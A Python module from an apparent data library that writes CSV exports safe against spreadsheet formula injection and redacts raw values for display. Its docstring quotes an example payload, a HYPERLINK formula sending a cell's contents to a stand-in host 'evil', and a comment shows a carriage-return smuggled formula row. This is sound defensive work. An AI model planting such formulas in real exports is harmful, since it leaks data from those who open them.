"""Data leaving carelib for people: CSV files a spreadsheet opens, and raw values a table shows.

A CSV export is opened in Excel, LibreOffice or Google Sheets by someone who trusts it. A
text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read
there as a formula (``=HYPERLINK("http://evil/?"&A1, "click")``), so a customer who types
one into a review or a segment field can run it on a manager's machine. :func:`to_csv`
writes every CSV of carelib and of its notebooks: each such text cell (and column name) is
prefixed with a single quote, which spreadsheets show as text, and the file is written
atomically (a temporary file renamed over the target, mode 0644), so a reader sees the
old file or the new one, never half of one.

:func:`readable` is the display side: raw values of a table (an excluded row's ``found``
cell may be a customer's comment) redacted and cut short before a table shows them.

References
----------
OWASP, "CSV Injection", https://owasp.org/www-community/attacks/CSV_Injection
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterable
from pathlib import Path
from typing import Any

import pandas as pd

from carelib.errors import ParameterError
from carelib.files import write_atomic

__all__ = ["to_csv", "neutralise", "readable", "FORMULA_STARTS"]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def neutralise(value: Any) -> Any:
    """A cell made inert for spreadsheets: text starting a formula gets a leading ``'``.

    Only strings are changed, and a string that is a plain number (``-12.5``) is kept: a
    spreadsheet reads it as the number it is, not as a formula.

    Examples
    --------
    >>> [neutralise(v) for v in ["=HYPERLINK(A1)", "@SUM(A1)", "-12.5", "-1+2", 3, "North"]]
    ["'=HYPERLINK(A1)", "'@SUM(A1)", '-12.5', "'-1+2", 3, 'North']
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def _neutral_frame(frame: pd.DataFrame) -> pd.DataFrame:
    out = frame.copy()
    for col in out.columns:
        s = out[col]
        if s.dtype == object or isinstance(s.dtype, (pd.StringDtype, pd.CategoricalDtype)):
            out[col] = s.astype(object).map(neutralise)
    out.columns = [neutralise(c) for c in out.columns]
    if not pd.api.types.is_numeric_dtype(out.index.dtype):
        out.index = out.index.map(neutralise)
    return out


def to_csv(frame: pd.DataFrame, path: str | Path, *, index: bool = False, **options: Any) -> Path:
    """Write ``frame`` as CSV, formula-safe and atomically; return the path.

    Parameters
    ----------
    frame : DataFrame
        The table; it is not modified.
    path : str or Path
        The CSV file; its folder is created when missing.
    index : bool
        Write the index as the first column (default no).
    **options
        Passed to :meth:`pandas.DataFrame.to_csv` (``date_format``, ``float_format`` ...).

    Returns
    -------
    Path

    Notes
    -----
    Every text cell and column name (and index label) starting with ``= + - @``, a tab or a
    carriage return, other than a plain number, is prefixed with ``'`` (OWASP). UTF-8, CRLF
    row ends (RFC 4180: a cell holding a line break or carriage return is quoted, so it cannot
    start a row of its own); the file is written to a temporary file beside the target, made
    given ordinary permissions (0644 with the usual umask) and renamed over it.

    Examples
    --------
    >>> import tempfile, pathlib
    >>> p = to_csv(pd.DataFrame({"segment": ["=1+1", "Plus"], "n": [-3, 4]}),
    ...            pathlib.Path(tempfile.mkdtemp()) / "out.csv")
    >>> p.read_bytes().decode("utf-8").splitlines()
    ['segment,n', "'=1+1,-3", 'Plus,4']
    """
    if not isinstance(frame, pd.DataFrame):
        raise ParameterError(f"to_csv: frame must be a pandas DataFrame, got {type(frame).__name__}")
    for key, why in (("path_or_buf", "the file is always written whole, atomically"), ("mode", "the file is always "
                     "written whole, atomically"), ("lineterminator", "rows end with CRLF (RFC 4180), so a carriage "
                     "return inside a cell is always quoted"), ("quoting", "cells are quoted as RFC 4180 requires")):
        if key in options:
            raise ParameterError(f"to_csv: option {key!r} is not allowed ({why})")
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    # CRLF: Python's csv quotes a cell holding any character of the line terminator; with "\n" alone a bare
    # carriage return would stay unquoted and start a new row in a spreadsheet ("x\r=cmd" -> a formula row)
    text = _neutral_frame(frame).to_csv(index=index, lineterminator="\r\n", **options)
    write_atomic(path, text)
    return path


def readable(
    frame: pd.DataFrame,
    columns: Iterable[str],
    redact: Callable[[str], str],
    *,
    max_chars: int = 40,
) -> pd.DataFrame:
    """A copy of ``frame`` whose raw-value ``columns`` are redacted, on one line and cut to ``max_chars``.

    For tables that show values as they were found in a file (a rejected cell may hold a
    customer's comment, e-mail or card number). Missing values stay missing.

    Parameters
    ----------
    frame : DataFrame
        The table to show; it is not changed.
    columns : iterable of str
        The columns holding raw values; a column the frame lacks is an error.
    redact : callable
        Applied before cutting (so a cut never splits what the redactor must see), e.g.
        ``Redactor(roster).redact`` (:class:`carelib.text.redact.Redactor`).
    max_chars : int
        Longest value shown (2 or more); longer ones end with ``…``, cut at a word boundary
        when one is near.

    Returns
    -------
    DataFrame
        A copy of ``frame`` with the same columns; each of ``columns`` holds the redacted text
        with runs of whitespace (newlines included) made one space, as object dtype.

    Examples
    --------
    >>> t = pd.DataFrame({"row": [3], "found": ["call me on +44 7700 900123, I am so angry about this order"]})
    >>> from carelib.text.redact import Redactor
    >>> readable(t, ["found"], Redactor().redact)["found"].tolist()
    ['call me on [phone], I am so angry about…']
    """
    cols = list(columns)
    missing = [c for c in cols if c not in frame.columns]
    if missing:
        raise ParameterError(f"readable: no column(s) {missing}; columns are {list(frame.columns)}")
    if not isinstance(max_chars, int) or max_chars < 2:
        raise ParameterError(f"max_chars must be an integer of 2 or more, got {max_chars!r}")
    if not callable(redact):
        raise ParameterError(f"readable: redact must be a function from text to redacted text, got {redact!r}")

    def shown(value: Any) -> Any:
        if not isinstance(value, str) and pd.api.types.is_scalar(value) and pd.isna(value):
            return value
        text = " ".join(redact(str(value)).split())
        if len(text) <= max_chars:
            return text
        cut = text[: max_chars - 1]
        space = cut.rfind(" ")
        if text[max_chars - 1] != " " and space >= max_chars // 2:  # end on a whole word when one is near
            cut = cut[:space]
        return cut.rstrip(" ,;:") + "…"

    out = frame.copy()
    for c in cols:
        out[c] = out[c].astype(object).map(shown)
    return out
